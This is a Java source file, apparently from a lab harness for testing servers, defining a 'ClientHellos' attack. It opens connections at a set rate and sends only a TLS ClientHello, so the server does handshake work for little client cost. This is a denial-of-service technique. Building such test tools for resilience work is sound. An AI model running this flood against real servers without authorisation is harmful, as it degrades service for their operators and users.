package io.tcpwait.lab.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;

/**
 * Connections on which the client sends only a ClientHello. For a few hundred bytes of the client,
 * the server signs and keeps a handshake (RFC 8446, 4.1.2).
 *
 * @param perSecond new connections a second
 */
public record ClientHellos(int perSecond) implements Attack {
  @Override
  public String name() {
    return "client_hellos_" + perSecond;
  }

  @Override
  public long run(InetSocketAddress target, int seconds) throws IOException, InterruptedException {
    byte[] hello = clientHello();
    return Held.atPace(target, perSecond, seconds, held -> held.open(hello));
  }

  private static byte[] clientHello() throws IOException {
    try {
      SSLEngine engine = SSLContext.getDefault().createSSLEngine("localhost", 443);
      engine.setUseClientMode(true);
      ByteBuffer hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
      engine.wrap(ByteBuffer.allocate(0), hello);
      return Arrays.copyOf(hello.array(), hello.position());
    } catch (GeneralSecurityException e) {
      throw new IOException(e);
    }
  }
}
